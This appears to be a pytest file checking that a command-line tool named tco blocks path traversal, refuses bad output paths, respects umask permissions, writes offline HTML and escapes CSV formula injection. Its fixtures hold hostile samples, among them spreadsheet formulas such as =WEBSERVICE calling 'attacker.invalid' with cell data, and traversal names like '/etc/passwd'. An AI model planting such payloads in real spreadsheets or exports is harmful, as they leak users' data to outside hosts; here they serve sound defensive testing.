"""Files: path traversal, file-system mistakes, permissions of what tco writes, offline HTML, CSV injection."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
import yaml
from harness import contained, refused, run, tco

from tco.foundation.files import slug
from tco.foundation.safe_csv import FORMULA_STARTS, csv_cell

TESTS = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(TESTS))
from workbook_helpers import soffice  # noqa: E402

#: option names and a source that a spreadsheet would run as formulas or links (no "," or ":", which no option
#: name holds: tco.inputs.scenario_resolve.OPTION_NAME_SEPARATORS)
HOSTILE_NAMES = ['=HYPERLINK("//attacker.invalid";"open")', "+1+1", "-2+3", "@SUM(1;2)", "\t=1+1", "\r=1+1"]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- path traversal -----------------------------------------------------------------------------------


@pytest.mark.slow  # over a second of CPU (measured 2026-12-06): make test only
@pytest.mark.parametrize("name", ["../../escape", "/etc/passwd", "x\x00y/../.."])
def test_a_scenario_name_never_leaves_the_download_folder(tmp_path, name):
    answer = contained(run("attacks:workbook_download", name, str(tmp_path))).result
    assert answer["left"] == [] and "/" not in answer["filename"] and not answer["filename"].startswith(".")
    assert answer["filename"] == f"{slug(name)}-edited.xlsx"


@pytest.mark.parametrize("name", ["../../escape", "..", "/tmp/x"])
def test_a_study_name_is_a_folder_name(tmp_path, name):
    path = tmp_path / "s.yaml"
    path.write_text(yaml.safe_dump({"name": name, "question": "q", "scenario": "default",
                                    "analyses": {"tornado": {}}}))
    refused(tco("study", str(path), cwd=tmp_path), "name")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]


def test_slugs():
    assert slug("../../etc/x") == "etc-x" and slug("..") == "scenario" and slug("Llama 3.1 (70B)") == "Llama-3.1-70B"
    assert len(slug("x" * 1000)) == 80


# --- file-system mistakes: one line, exit 2, nothing left behind ------------------------------------------


@pytest.mark.slow
def test_file_system_mistakes(tmp_path):
    refused(tco("export", "--xlsx", str(tmp_path)), "--xlsx")  # a folder (and not .xlsx)
    (tmp_path / "dir.xlsx").mkdir()
    refused(tco("export", "--xlsx", str(tmp_path / "dir.xlsx"), "--force"), "is a folder")
    refused(tco("export", "--xlsx", "/proc/tco.xlsx"), "/proc/tco.xlsx")
    refused(tco("export", "--xlsx", str(tmp_path / "missing" / "b.xlsx")), "does not exist")
    refused(tco("fleet", "kv-wall", "--html", "/proc/tco.html"), "/proc/tco.html")
    refused(tco("fleet", "kv-wall", "--html", str(tmp_path)), "is a folder")
    refused(tco("import", "book.xlsx", "--out", str(tmp_path / "missing" / "s.yaml")), "does not exist")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir.xlsx"]


@pytest.mark.parametrize("out", [".", "..", "./", "sub/.."])
def test_a_study_into_the_current_folder_is_refused_without_leftovers(tmp_path, out):
    (tmp_path / "sub").mkdir()
    refused(tco("study", "tornado-default", "--out", out, cwd=tmp_path), "--out")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sub"]


# --- permissions ----------------------------------------------------------------------------------------


@pytest.mark.slow  # over a second of CPU (measured 2026-12-06): make test only
def test_written_files_follow_the_umask(tmp_path):
    """0600 under umask 077 (0644 under the usual 022: the study test); mkstemp gave 0600 whatever the umask."""
    umask = 0o077
    expected = 0o666 & ~umask
    assert contained(tco("export", "--xlsx", str(tmp_path / "b.xlsx"), umask=umask)).code == 0
    assert mode(tmp_path / "b.xlsx") == expected
    assert contained(tco("import", str(tmp_path / "b.xlsx"), "--out", str(tmp_path / "s.yaml"), umask=umask)).code == 0
    assert mode(tmp_path / "s.yaml") == expected
    assert contained(tco("fleet", "kv-wall", "--html", str(tmp_path / "k.html"), umask=umask)).code == 0
    assert mode(tmp_path / "k.html") == expected


@pytest.mark.slow  # over a second of CPU (measured 2026-12-06): make test only
def test_force_keeps_the_mode_of_the_file_it_replaces(tmp_path):
    path = tmp_path / "b.xlsx"
    path.write_bytes(b"old")
    path.chmod(0o640)
    assert contained(tco("export", "--xlsx", str(path), "--force", umask=0o022)).code == 0
    assert mode(path) == 0o640 and path.read_bytes()[:2] == b"PK"


def test_a_study_folder_follows_the_umask_and_its_html_is_offline(tmp_path, default_text):
    (tmp_path / "s.yaml").write_text(default_text)
    spec = {"name": "sweep", "question": "q", "scenario": str(tmp_path / "s.yaml"), "metric": "ratio:groq",
            "analyses": {"sweep": {"param": "economics.discount_rate", "points": 5}}}
    (tmp_path / "study.yaml").write_text(yaml.safe_dump(spec))
    outcome = contained(tco("study", str(tmp_path / "study.yaml"), "--out", str(tmp_path / "out"), umask=0o022))
    assert outcome.code == 0, outcome.stderr
    assert mode(tmp_path / "out") == 0o755 and all(mode(p) == 0o644 for p in (tmp_path / "out").iterdir())
    for page in (tmp_path / "out").glob("*.html"):
        assert_offline(page.read_text())


# --- HTML opens offline ---------------------------------------------------------------------------------


def assert_offline(html: str) -> None:
    """No script is fetched: plotly.js is inlined (~4 MB), no ``<script src=...>`` at all."""
    assert not re.search(r"<script[^>]*\bsrc\s*=", html) and len(html) > 1_000_000


def test_fleet_html_is_offline(tmp_path):
    assert contained(tco("fleet", "kv-wall", "--html", str(tmp_path / "k.html"))).code == 0
    assert_offline((tmp_path / "k.html").read_text())


# --- CSV injection --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_scenario(tmp_path_factory) -> Path:
    """The default scenario with option names and a source that spreadsheets would run."""
    from tco.inputs.loading import SCENARIOS_DIR

    data = yaml.safe_load((SCENARIOS_DIR / "default.yaml").read_text())
    for option, name in zip(data["options"][1:], HOSTILE_NAMES, strict=False):
        option["name"] = name
    data["devices"] = {"groq-lpu": {"price_usd": {"value": 20000, "low": 6000, "high": 25000,
                                                  "source": '=WEBSERVICE("http://attacker.invalid/?"&A1)'}}}
    path = tmp_path_factory.mktemp("csv") / "hostile.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("command", [["compare"], ["params"]])
def test_csv_output_starts_no_cell_with_a_formula_character(hostile_scenario, command):
    outcome = contained(tco(*command, str(hostile_scenario), "--format", "csv"))
    assert outcome.code == 0, outcome.stderr
    cells = csv_cells(outcome.stdout)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert any(c.startswith("'=") for c in cells)  # the hostile text is there, escaped


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_csv_cell_escaping():
    assert [csv_cell(v) for v in ["=1", "+1", "-x", "@x", "\tx", "\rx", "ok", -1.5, None]] == [
        "'=1", "'+1", "'-x", "'@x", "'\tx", "'\rx", "ok", -1.5, None]


@pytest.mark.libreoffice
def test_libreoffice_finds_no_formula_in_tco_csv(hostile_scenario, tmp_path):
    """LibreOffice evaluates ``=...`` cells when it opens a CSV: the unescaped control file gets formulas
    (so this test can fail), the CSV tco writes gets none."""
    outcome = contained(tco("compare", str(hostile_scenario), "--format", "csv"))
    (tmp_path / "tco.csv").write_text(outcome.stdout)
    control = io.StringIO()
    csv.writer(control).writerows([[c[1:] if c.startswith("'") else c for c in row]
                                   for row in csv.reader(io.StringIO(outcome.stdout))])
    (tmp_path / "control.csv").write_text(control.getvalue())
    profile = tmp_path / "profile"
    subprocess.run([soffice(), "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}", "--convert-to",
                    "xlsx", "--outdir", str(tmp_path / "out"), str(tmp_path / "tco.csv"), str(tmp_path / "control.csv")],
                   check=True, capture_output=True, timeout=120, env={**os.environ, "HOME": str(tmp_path)})

    def formulas(name: str) -> list:
        sheet = openpyxl.load_workbook(tmp_path / "out" / f"{name}.xlsx").active
        return [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    assert formulas("control"), "the control CSV should open with live formulas"
    assert formulas("tco") == []
